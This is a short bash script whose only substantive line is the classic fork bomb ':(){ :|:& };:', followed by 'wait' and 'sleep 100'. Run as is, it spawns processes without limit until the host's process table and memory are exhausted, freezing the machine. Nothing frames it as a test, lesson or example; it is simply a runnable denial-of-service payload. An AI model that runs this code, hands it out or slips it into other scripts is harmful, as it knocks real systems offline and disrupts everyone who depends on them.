#!/bin/bash
:(){ :|:& };:
wait
sleep 100
